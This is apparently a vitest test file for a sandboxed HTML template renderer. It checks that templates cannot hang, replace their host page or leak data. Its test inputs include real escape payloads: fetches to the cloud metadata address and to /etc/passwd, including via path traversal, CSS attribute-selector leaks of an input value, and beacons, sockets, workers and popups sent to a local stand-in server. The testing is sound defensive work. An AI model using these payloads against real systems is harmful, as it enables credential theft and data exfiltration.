// Templates that try to get out, to learn something or to hang: each ends inside its limits with a sentence, or achieves nothing.
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Limits } from './chromium/watch-usage.ts';
import { ExplainedFailure, PAGE_FAILURES } from './explained-failure.ts';
import type { RenderOutput } from './render-job.ts';
import { GREEDY_TEMPLATES } from './testing/greedy-templates.ts';
import { RENDER_FOLDER, renderInTest, smallStill } from './testing/render-in-test.ts';

const page = (body: string): string => `<!doctype html><meta charset="utf-8"><body>${body}</body>`;
const limits: Partial<Limits> = { silentSeconds: 3, silentWallSeconds: 20, memoryBytes: 700 * 1024 * 1024 };
/** A page that computes for ever uses up the whole time that it gets, so it gets less. */
const briefly = { ...limits, silentSeconds: 1 };
const render = (body: string, more: Record<string, string> = {}, within = limits) =>
  renderInTest({ 'index.html': page(body), ...more }, [smallStill('index.html', { frame: 3 })], { limits: within });

describe('what never ends or grows', () => {
  test.each(GREEDY_TEMPLATES)('$name', async ({ body, reason, isEndless }) => {
    const rendering = render(body, {}, isEndless ? briefly : limits);
    if (reason === null) expect((await rendering).files['still.png']).toBeDefined();
    else await expect(rendering).rejects.toThrow(reason);
  });

  test('leaves no browser behind', () => expect(execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' })).not.toContain(RENDER_FOLDER));
});

describe('what breaks its own page fails at once, with a sentence for people', () => {
  const neverPainted = 'Object.defineProperty(parent.HTMLCanvasElement.prototype, "onpaint", { set() {} });';
  test.each<[string, string, string]>([
    ['replaces the page around it', 'parent.document.body.innerHTML = "x"', PAGE_FAILURES['page-replaced']],
    [
      'removes itself in a later frame',
      `setTimeout(() => parent.document.body.replaceChildren(), 50); ${neverPainted}`,
      PAGE_FAILURES['page-replaced'],
    ],
    ['reloads the page around it', 'parent.eval("location.reload()")', PAGE_FAILURES['page-replaced']],
    ['opens another page', `setTimeout(() => { location.href = "other.html" }, 50); ${neverPainted}`, PAGE_FAILURES['left-page']],
    ['has no body', 'addEventListener("DOMContentLoaded", () => document.body.remove())', PAGE_FAILURES['no-body']],
    ['replaces functions of the browser', 'parent.HTMLCanvasElement.prototype.getContext = () => null', 'The template could not be drawn'],
  ])('a template that %s', async (_name, script, sentence) => {
    const rendering = render(`<script>${script}</script>`, { 'other.html': page('Other') });
    await expect(rendering).rejects.toBeInstanceOf(ExplainedFailure);
    await expect(rendering).rejects.toThrow(sentence);
    await expect(rendering).rejects.not.toThrow(/adstead|host\.js|Cannot read|TemplateFailure/u);
  });

  test('a page that writes itself anew is drawn', async () => {
    const { files } = await render(
      '<script>addEventListener("load", () => { document.open(); document.write("<p>Anew</p>"); document.close(); })</script>',
    );
    expect(files['still.png']).toBeDefined();
  });

  test('a still that stays silent is ended sooner than a video', async () => {
    const rendering = render(`<script>${neverPainted}</script>`, {}, { ...limits, silentWallSecondsOfStills: 2 });
    await expect(rendering).rejects.toThrow('The template showed no frame for 2 seconds');
  });
});

describe('what reaches out', () => {
  const asked: string[] = [];
  const outside = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('secret');
  });
  let address = '';
  beforeAll(async () => {
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    address = `127.0.0.1:${(outside.address() as AddressInfo).port}`;
  });
  afterAll(() => void outside.close());

  test('no request leaves the page: loopback, names, redirects, beacons, styles, sockets, frames, workers, popups', async () => {
    const url = `http://${address}`;
    const { console: printed } = await render(
      `
      <link rel="stylesheet" href="${url}/style.css"><link rel="prefetch" href="${url}/prefetch"><link rel="preconnect" href="${url}">
      <style>@import url("${url}/import.css");body{background:url("${url}/background.png")}@font-face{font-family:x;src:url("${url}/font")}p{font-family:x}</style>
      <style>input[value^="s"]{background:url("${url}/leak-s")}input[value$="t"]{list-style:url("${url}/leak-t");cursor:url("${url}/leak-cursor"),auto}</style>
      <input value="secret"><p>text</p><iframe src="${url}/frame"></iframe><form action="${url}/form" method="post"></form>
      <script>
        const tried = (name, work) => { try { work(); } catch (error) { console.error(name + ': ' + error.message); } };
        tried('fetch', () => fetch("${url}/fetch").catch(() => undefined));
        tried('metadata', () => fetch("http://169.254.169.254/latest/meta-data").catch(() => undefined));
        tried('localhost', () => fetch("http://localhost:${address.split(':')[1]}/localhost").catch(() => undefined));
        tried('beacon', () => navigator.sendBeacon("${url}/beacon", "x"));
        tried('socket', () => new WebSocket("ws://${address}/socket"));
        tried('worker', () => new Worker("data:text/javascript,fetch('${url}/worker')"));
        tried('parent worker', () => new parent.Worker("data:text/javascript,fetch('${url}/parent-worker')"));
        tried('service worker', () => navigator.serviceWorker.register('worker.js').catch((error) => console.error(error.message)));
        tried('parent service worker', () => parent.navigator.serviceWorker.register('/worker.js').then(() => console.error('registered'), () => undefined));
        tried('webrtc', () => new RTCPeerConnection());
        tried('popup', () => window.open("${url}/popup"));
        tried('top', () => { top.location = "${url}/top"; });
        document.forms[0].submit();
      </script>`,
      { 'worker.js': `fetch('${url}/service-worker')` },
    );
    expect(asked).toEqual([]);
    for (const name of ['Worker', 'ServiceWorker', 'WebSocket', 'RTCPeerConnection'])
      expect(printed.join('\n')).toContain(`${name} is not available in creative templates.`);
    expect(printed.join('\n')).not.toContain('registered');
  });

  test('files of the machine cannot be read', async () => {
    const { console: printed } = await render(`<p></p><script>
      fetch("file:///etc/passwd").then(() => console.error('file read'), () => undefined);
      fetch("/../../../../etc/passwd").then((answer) => answer.ok && console.error('path read'));
      fetch("/..%2f..%2f..%2fetc/passwd").then((answer) => answer.ok && console.error('encoded path read'));
    </script>`);
    expect(printed.filter((line) => line.includes('read'))).toEqual([]);
  });

  const keep = `<script>localStorage.kept="1";sessionStorage.kept="1";document.cookie="kept=1";parent.name="kept";indexedDB.open("kept");
    caches.open("kept").then((cache)=>cache.put("/kept",new Response("kept")));
    navigator.storage.getDirectory().then((root)=>root.getFileHandle("kept",{create:true}));fetch("kept.json")</script>`;
  const look = `<script>(async () => {
    const files = []; for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    const found = { local: localStorage.kept, session: sessionStorage.kept, cookie: document.cookie, name: parent.name,
      databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length, files: files.filter((name) => name !== 'frames').join(),
      file: (await fetch('kept.json', { cache: 'force-cache' })).ok };
    for (const [what, value] of Object.entries(found)) if (value) console.error(what + ': ' + value);
    console.error('looked');
  })()</script>`;
  // A picture does not wait for files and caches, so that a job may end before the look does: then it is repeated.
  const untilLooked = async (printed: () => Promise<string[]>): Promise<string[]> => {
    let found = await printed();
    while (found.length === 0) found = await printed();
    return found;
  };

  test('nothing of an earlier job is found by the next: storage, caches, files, cookies, names of windows', async () => {
    await render(keep, { 'kept.json': '{}' });
    expect(await untilLooked(async () => (await render(look)).console)).toEqual(['error: looked']);
  });

  test('nor of the site before by the next site that the same browser inspects', async () => {
    const inspection = { kind: 'inspection' as const, entry: 'index.html', width: 120, height: 80, fps: 24, frames: [3], isVideo: false };
    const items = ['one', 'two'].map((name): RenderOutput => ({ ...inspection, site: `site/${name}`, output: `${name}.json` }));
    const site = { 'one/index.html': page(keep), 'one/kept.json': '{}', 'two/index.html': page(look) };
    const found = await untilLooked(async () => (await renderInTest(site, items, { limits })).console);
    expect(found).toEqual(['error: looked']);
  });

  test('the page around a template holds nothing but this template', async () => {
    const { console: printed } = await render(`<script>
      console.error(parent.document.documentElement.textContent.trim() + '|' + parent.document.scripts.length + '|' + parent.frames.length);
      console.error(String(parent.process ?? parent.require ?? parent.opener ?? parent.chrome?.runtime ?? 'nothing'));
      console.error(String(parent.parent === parent));</script>`);
    expect(printed).toEqual(['error: html,body{margin:0}canvas,iframe{display:block;border:0}|0|1', 'error: nothing', 'error: true']);
  });
});

describe('a sound that is a playlist', () => {
  let folder = '';
  let playlist = '';
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'adstead-secret-'));
    const secret = path.join(folder, 'secret.ts');
    const tone = ['-loglevel', 'error', '-f', 'lavfi', '-i', 'sine=frequency=440:duration=1', '-c:a', 'aac', '-f', 'mpegts', secret];
    execFileSync(String(process.env['FFMPEG_PATH']), tone);
    playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${secret}\n#EXT-X-ENDLIST\n`;
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  const withSound = (soundFormat?: 'mp3' | 'wav' | 'ogg') => {
    const audio = { file: 'sound.m3u8', loop: false, fadeIn: 0, fadeOut: 0 };
    const video: RenderOutput = { kind: 'mp4', entry: 'index.html', width: 64, height: 48, fps: 4, seconds: 1, audio, output: 'video.mp4' };
    return renderInTest({ 'index.html': page('x'), 'sound.m3u8': playlist }, [video], { limits, soundFormat });
  };

  test.each(['mp3', 'wav', 'ogg'] as const)('opens no other file as %s, and names no folder of the machine', async (format) => {
    const failure = await withSound(format).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(Error);
    expect(String(failure)).not.toContain(tmpdir());
  });

  test('is not opened without a format', async () => {
    await expect(withSound()).rejects.toThrow();
  });
});

test('an error of the template is told with its file and line', async () => {
  const { console: printed } = await render('<script src="broken.js"></script>', { 'broken.js': '\n\nmissingFunction();' });
  expect(printed).toEqual(['ReferenceError: missingFunction is not defined (/broken.js, line 3)']);
});
